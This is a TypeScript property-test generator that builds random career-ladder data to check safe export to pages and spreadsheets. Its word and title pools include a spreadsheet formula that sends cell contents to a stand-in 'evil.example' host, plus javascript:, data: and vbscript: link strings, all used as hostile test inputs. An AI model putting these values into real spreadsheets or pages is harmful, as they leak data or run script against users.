// Generated ladders for property tests: forks and merges, two tracks, WIP and N/A sections, prose,
// lists and intros before lists in any section, sub-items, inline Markdown, links, item ids,
// groups, descriptions, summaries, shared expectations, and text that is hard to carry through
// a page or a spreadsheet (markers at the start of a line, |, commas, quotes, new lines,
// non-Latin scripts).
import fc from 'fast-check';
import { parseRich } from '../src/ladder/rich-text.js';
import type { Item, Ladder, Level, SectionDef, SectionValue } from '../src/ladder/types.js';

const word = fc.constantFrom(
  'Lead',
  'builds',
  'plan',
  'Review',
  'ship',
  'teams',
  'code',
  'budget',
  '|',
  'a, b',
  '"quoted"',
  "it's",
  '&',
  '50%',
  'Инженер',
  '工程师',
  'café',
  '**bold**',
  '_em_',
  '`code`',
  '[guide](https://example.com/g?a=1&b=2)',
  '<https://example.com/auto>',
  '{:target="_blank"}',
  // What a spreadsheet would run as a formula, and an apostrophe that must survive.
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1',
  '-5%',
  '@home',
  "'90s",
  "'=1+1",
  // Links to what is not the web, which no output may make live; written escaped or not.
  '[x](javascript:alert(1))',
  '\\[y](data:text/html,1)',
  '\\\\[z](JavaScript:void(0))',
  '[rel](levels/a.md)',
  '[a [b] c](&#106;avascript:x)',
  '[q \\] r](vbscript:y)',
);
const words = fc.array(word, { minLength: 1, maxLength: 6 }).map((w) => w.join(' '));
// What a line may start with, on top of words: list markers, headings, escapes.
const lead = fc.constantFrom(
  '',
  '',
  '',
  '- ',
  '# ',
  '* ',
  '+ ',
  '\\',
  '1. ',
  '2) ',
  '\\3. ',
  '=',
  '@',
  '-',
);
const line = fc.tuple(lead, words).map(([l, w]) => `${l}${w}`);
const prose = fc
  .array(line, { minLength: 1, maxLength: 3 })
  .map((lines) => lines.join('\n'))
  .filter((t) => !/^(wip|n\/a)$/i.test(t.trim()));

const link = fc.record({
  title: words,
  url: fc.constantFrom(
    'https://example.com/framework',
    'https://example.com/ä?x=1&y=2',
    'mailto:hr@example.com',
  ),
});

// Most items have none; some have a few, written like items (markers and all).
const subItems = fc.oneof(
  { weight: 3, arbitrary: fc.constant([] as string[]) },
  { weight: 1, arbitrary: fc.array(line, { minLength: 1, maxLength: 3 }) },
);
const withSubItems = (item: Item, subs: string[]): Item =>
  subs.length ? { ...item, items: subs.map((s) => parseRich(s)) } : item;

const value = (id: string, kind: SectionDef['kind']): fc.Arbitrary<SectionValue> =>
  fc
    .record({
      shape: fc.constantFrom('wip', 'n/a', 'text', 'list', 'list'),
      prose,
      items: fc.array(fc.tuple(line, fc.boolean(), subItems), { minLength: 1, maxLength: 4 }),
      intro: fc.option(prose, { nil: undefined }),
      link: fc.option(link, { nil: undefined }),
    })
    .map(({ shape, prose: text, items, intro, link: l }): SectionValue => {
      const withLink = l ? { link: l } : {};
      if (shape === 'wip' || shape === 'n/a')
        return { status: shape, kind, items: [], ...withLink };
      if (shape === 'text')
        return { status: 'defined', kind: 'text', items: [parseRich(text)], ...withLink };
      return {
        status: 'defined',
        kind: 'list',
        items: items.map(([source, hasId, subs], i) =>
          withSubItems(parseRich(source, hasId ? `${id}-${i + 1}` : undefined), subs),
        ),
        ...(intro ? { intro: parseRich(intro) } : {}),
        ...withLink,
      };
    });

const title = fc.constantFrom(
  'Engineer',
  'Инженер',
  'エンジニア',
  'Lead, "Platform"',
  'Manager | Ops',
  'Café & Co',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "'90s Engineer",
);

/** A ladder of 1 to 6 levels. */
export const ladders: fc.Arbitrary<Ladder> = fc
  .record({
    count: fc.integer({ min: 1, max: 6 }),
    parents: fc.array(fc.nat(), { minLength: 6, maxLength: 6 }),
    tracks: fc.array(fc.boolean(), { minLength: 6, maxLength: 6 }),
    titles: fc.array(title, { minLength: 6, maxLength: 6 }),
    order: fc.array(fc.option(fc.integer({ min: 1, max: 99 }), { nil: undefined }), {
      minLength: 6,
      maxLength: 6,
    }),
    aliases: fc.array(fc.boolean(), { minLength: 6, maxLength: 6 }),
    merges: fc.array(fc.nat(), { minLength: 6, maxLength: 6 }),
    summaries: fc.array(fc.option(words, { nil: undefined }), { minLength: 6, maxLength: 6 }),
    grouped: fc.boolean(),
    description: fc.option(words, { nil: undefined }),
    shared: fc.array(fc.tuple(words, subItems), { maxLength: 3 }),
    values: fc.array(
      fc.tuple(value('years', 'text'), value('skills', 'list'), value('checkpoints', 'list')),
      { minLength: 6, maxLength: 6 },
    ),
  })
  .map((g): Ladder => {
    const { count, parents, tracks, titles, order, aliases, values, merges, summaries } = g;
    const group = g.grouped ? { group: 'craft' } : {};
    const sections: SectionDef[] = [
      { id: 'years', title: 'Years of xp (guideline)', kind: 'text', assessed: false },
      {
        id: 'skills',
        title: 'Skills | craft',
        kind: 'list',
        assessed: false,
        ...group,
        ...(g.description ? { description: g.description } : {}),
      },
      { id: 'checkpoints', title: 'Checkpoints', kind: 'list', assessed: true, ...group },
    ];
    const levels: Level[] = Array.from({ length: count }, (_, i) => {
      const [years, skills, checkpoints] = values[i]!;
      return {
        id: `level-${i}`,
        // Titles repeat across levels, so each carries its number to stay unique.
        title: `${titles[i]} ${i}`,
        // Level i follows one of the levels before it, with forks where two pick one; and now
        // and then a second, where two paths merge.
        follows: [
          ...new Set(
            i === 0
              ? []
              : i > 1 && merges[i]! % 3 === 0
                ? [`level-${parents[i]! % i}`, `level-${merges[i]! % i}`]
                : [`level-${parents[i]! % i}`],
          ),
        ],
        ...(summaries[i] ? { summary: summaries[i] } : {}),
        track: tracks[i] ? 'manager' : 'ic',
        aliases: aliases[i] ? [`l${i}`] : [],
        ...(order[i] !== undefined ? { order: order[i] } : {}),
        file: `level-${i}.yaml`,
        sections: { years, skills, checkpoints },
      };
    });
    return {
      dir: '.',
      title: 'Generated, "ladder" | ok',
      groups: g.grouped ? [{ id: 'craft', title: 'Craft, "and" | more' }] : [],
      shared: g.shared.map(([text, subs], i) => ({
        title: `Shared ${i + 1}`,
        items: [withSubItems(parseRich(text), subs)],
      })),
      tracks: [
        { id: 'ic', title: 'Individual Contributor' },
        { id: 'manager', title: 'Менеджер' },
      ].filter((t) => levels.some((l) => l.track === t.id)),
      sections,
      levels,
    };
  });
